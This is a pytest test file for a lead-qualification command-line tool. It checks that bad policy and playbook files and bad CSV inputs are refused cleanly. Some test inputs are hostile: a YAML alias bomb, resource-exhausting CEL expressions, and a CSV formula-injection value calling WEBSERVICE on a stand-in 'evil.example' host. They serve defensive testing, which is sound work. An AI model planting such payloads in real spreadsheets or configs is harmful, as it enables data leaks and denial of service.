"""Bad files and bad workspaces: a clear error with place and cure, a status of 2, nothing half-written."""

from __future__ import annotations

import random
from typing import TYPE_CHECKING

import pytest

from fairlead.kit.exports import csv_chunks
from fairlead.testing.company import HEADER, lead_rows

if TYPE_CHECKING:
    from pathlib import Path

    from tests.cli.conftest import Terminal

RUN = ("run", "lead-qualification", "--json", "--input")
POLICY, PLAYBOOK = "policies/lead-assignment.yaml", "playbooks/lead-qualification.yaml"
PATHS = ("auto", "assist", "human", "blocked", "needs_information", "duplicate", "unreadable", "failed")


def change(fairlead: Terminal, file: str, old: str, new: str) -> None:
    """Put one thing of a workspace file wrong."""
    path = fairlead.folder / file
    whole = path.read_text(encoding="utf-8")
    assert old in whole
    path.write_text(whole.replace(old, new, 1), encoding="utf-8")


WRONG_FILES = {
    "malformed": (POLICY, "rules:\n", "rules: [\n", "lead-assignment.yaml:"),
    "a tab": (POLICY, "  rate: 0.05", "\trate: 0.05", "lead-assignment.yaml:"),
    "cyclic": (POLICY, "description: Which team gets a new lead.", "description: &a [*a]", "lead-assignment.yaml:"),
    "a word for a number": (POLICY, "rate: 0.05", "rate: often", "Expected a number"),
    "a list for a text": (POLICY, "role: reviewer", "role: [reviewer]", "found a list"),
    "a misspelt key": (POLICY, "on_expiry: keep", "on_expirie: keep", "on_expiry"),
    "twice the same key": (POLICY, "lottery:\n", "lottery:\n  rate: 0.1\n", "rate"),
    "hostile CEL": (POLICY, "deal >= 50000.0", "'[1,2].map(x, [1,2].map(y, [1,2].map(z, x)))[0][0][0] > 0'", "lead-assignment.yaml:43"),  # noqa: E501  a table
    "CEL without end": (POLICY, "deal >= 50000.0", "(" * 2_000 + "deal", "lead-assignment.yaml:"),
    "CEL on the wrong type": (POLICY, "deal >= 50000.0", 'deal >= "much"', "does not work on (double, string)"),
    "an unknown fact": (POLICY, "deal >= 50000.0", "dael >= 50000.0", "dael"),
    "a stage that is not there": (PLAYBOOK, "approved: ready-or-not", "approved: ready-or-no", "ready-or-not"),
    "an unknown step": (PLAYBOOK, "score-by-rules@1", "score-by-rule@1", "score-by-rules@1"),
    "an unknown connector": (PLAYBOOK, "act: file", "act: fiel", "file"),
}  # fmt: skip


@pytest.mark.parametrize("case", WRONG_FILES)
def test_a_wrong_workspace_file(fairlead: Terminal, case: str, tmp_path: Path) -> None:
    """`check`, `deploy` and `run` all name file, line and cure; nothing is deployed or imported."""
    file, old, new, part = WRONG_FILES[case]
    change(fairlead, file, old, new)
    leads = tmp_path / "leads.csv"
    leads.write_text("name,email\nAda Keller,ada@helio.example\n", encoding="utf-8")
    before = fairlead.counts()

    said = fairlead("check")
    assert said.code == 2
    assert part in said.out, said.out
    assert f"{file}:" in said.out
    as_json = fairlead("check", "--json")
    assert as_json.code == 2
    assert as_json.json["ok"] is False
    assert as_json.json["errors"][0]["fields"]["place"].startswith(file)
    fairlead("deploy").refused(2, file)
    fairlead(*RUN, str(leads)).refused(2, file)
    assert fairlead.counts() == before


def test_a_bomb_of_aliases(fairlead: Terminal) -> None:
    """A file that would unfold to billions of nodes is refused at once."""
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)]
    (fairlead.folder / "policies" / "bomb.yaml").write_text("\n".join(lines), encoding="utf-8")

    assert fairlead("check").code == 2


def test_a_step_file_that_breaks(fairlead: Terminal) -> None:
    """A plug-in's mistake is named with its line, and the plug-in's words."""
    (fairlead.folder / "steps").mkdir()
    (fairlead.folder / "steps" / "bad.py").write_text("x = 1\ny = x / 0\n", encoding="utf-8")
    said = fairlead("check")
    assert said.code == 2
    assert "steps/bad.py:2" in said.out
    assert "ZeroDivisionError" in said.out


def refused_file(fairlead: Terminal, file: Path, *parts: str) -> None:
    """`run` refuses the file with a sentence, and no table has another row than before."""
    before = fairlead.counts()
    fairlead(*RUN, str(file)).refused(2, *parts)
    assert fairlead.counts() == before


def test_no_file_at_all(fairlead: Terminal, tmp_path: Path) -> None:
    """A missing file, a folder, an empty file, one with a header alone: each is named."""
    refused_file(fairlead, tmp_path / "missing.csv", "missing.csv")
    refused_file(fairlead, tmp_path, "not a folder")
    (tmp_path / "empty.csv").write_bytes(b"")
    refused_file(fairlead, tmp_path / "empty.csv", "empty")


def test_no_table(fairlead: Terminal, tmp_path: Path) -> None:
    """Bytes that are no text, and a text with too many columns, are refused."""
    (tmp_path / "noise.csv").write_bytes(random.Random(1).randbytes(50_000))
    refused_file(fairlead, tmp_path / "noise.csv")
    columns = [f"c{number}" for number in range(10_000)]
    (tmp_path / "wide.csv").write_text(",".join(columns) + "\n" + ",".join(columns) + "\n", encoding="utf-8")
    refused_file(fairlead, tmp_path / "wide.csv", "10,000", "512")


@pytest.mark.parametrize(
    ("option", "part"),
    [("email=Mial", "Mail"), ("emial=Mail", "email"), ("email", "="), ("email=Mail,Mail", "Mail")],
)
def test_a_wrong_map(fairlead: Terminal, tmp_path: Path, option: str, part: str) -> None:
    """The sentence names what was probably meant."""
    file = tmp_path / "leads.csv"
    file.write_text("Who,Mail\nAda Keller,ada@helio.example\n", encoding="utf-8")
    before = fairlead.counts()
    fairlead(*RUN, str(file), "--map", option).refused(2, part)
    assert fairlead.counts() == before


def test_a_wrong_playbook(fairlead: Terminal, tmp_path: Path) -> None:
    """An unknown playbook is refused with the one that was probably meant."""
    file = tmp_path / "leads.csv"
    file.write_text("name,email\nAda Keller,ada@helio.example\n", encoding="utf-8")
    before = fairlead.counts()
    fairlead("run", "lead-qualificaton", "--input", str(file)).refused(2, "lead-qualification")
    assert fairlead.counts() == before


def test_a_field_of_a_megabyte(fairlead: Terminal, tmp_path: Path) -> None:
    """That row is unreadable and counted as such; its neighbours are taken in."""
    file = tmp_path / "big.csv"
    rows = ["name,email", f"{'x' * 1_048_576},big@helio.example", "Ada Keller,ada@helio.example"]
    file.write_text("\n".join(rows) + "\n", encoding="utf-8")

    done = fairlead(*RUN, str(file)).json

    assert (done["rows"], done["unreadable"], done["human"]) == (2, 1, 1)


def test_nul_bytes_and_mixed_encodings(fairlead: Terminal, tmp_path: Path) -> None:
    """Every line is accounted for, whatever its bytes; readable ones keep their letters."""
    lines = [b"name,email", "Jürgen Groß,j@helio.example".encode(), "Zoë Lüth,z@helio.example".encode("cp1252"),
             b"Nul\0 Byte,n@helio.example", b"Plain Name,p@helio.example"]  # fmt: skip
    file = tmp_path / "mixed.csv"
    file.write_bytes(b"\n".join(lines) + b"\n")

    done = fairlead(*RUN, str(file))

    assert done.code == 0, done.err
    assert done.json["rows"] == 4
    assert sum(done.json[path] for path in PATHS) == 4
    titles = fairlead("cases", "list", "--json").json["cases"]
    assert len(titles) == 4 - done.json["unreadable"]


def test_formulas_are_harmless(fairlead: Terminal, tmp_path: Path) -> None:
    """A lead that is written as a formula is taken in as text, and an export makes a
    spreadsheet show it as text.
    """
    file = tmp_path / "formula.csv"
    formula = '=WEBSERVICE("http://evil.example")'
    quoted = formula.replace('"', '""')
    file.write_text(f'name,email\n"{quoted}",ada@helio.example\n', encoding="utf-8")

    assert fairlead(*RUN, str(file)).json["human"] == 1
    case = fairlead("cases", "list", "--json").json["cases"][0]["id"]
    name = fairlead("cases", "show", case, "--json").json["history"][0]["payload"]["facts"]["name"]
    assert name.startswith("=WEBSERVICE")
    assert "".join(csv_chunks(["name"], [[name]])).splitlines()[1].startswith("\"'=")


def test_a_proposal_off_its_schema(fairlead: Terminal, tmp_path: Path) -> None:
    """A step that proposes a team which the checkpoint does not know: exceptions queue, named;
    the run accounts for it.
    """
    change(fairlead, PLAYBOOK, "otherwise: inside-sales", "otherwise: moon-base")
    file = tmp_path / "leads.csv"
    file.write_text(
        "name,email,country\nAda Keller,ada@helio.example,JP\nBo Holm,bo@helio.example,DE\n", encoding="utf-8"
    )

    done = fairlead(*RUN, str(file)).json

    assert (done["rows"], done["failed"], done["human"]) == (2, 1, 1)
    stuck = fairlead("cases", "list", "--state", "exception", "--json").json["cases"]
    assert stuck[0]["problem"]["code"] == "proposal"
    assert "moon-base" in stuck[0]["problem"]["words"]
    change(fairlead, PLAYBOOK, "otherwise: moon-base", "otherwise: inside-sales")
    told = fairlead("cases", "tell", stuck[0]["id"], "skip")
    assert told.code == 0, told.err


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_a_file_of_300_megabytes(fairlead: Terminal, tmp_path: Path) -> None:
    """A huge file of one lead over and over, in a bounded time and memory: one lead, the rest duplicates."""
    row = ",".join(next(iter(lead_rows(1)))[:4]) + "," + "x" * 60_000
    file = tmp_path / "huge.csv"
    with file.open("w", encoding="utf-8") as out:
        out.write(",".join([*HEADER[:4], "Notes"]) + "\n")
        for _ in range(5_100):
            out.write(row + "\n")
    assert file.stat().st_size > 300_000_000

    done = fairlead(*RUN, str(file))

    assert done.code == 0, done.err
    assert done.json["rows"] == 5_100
    assert done.json["duplicate"] == 5_099
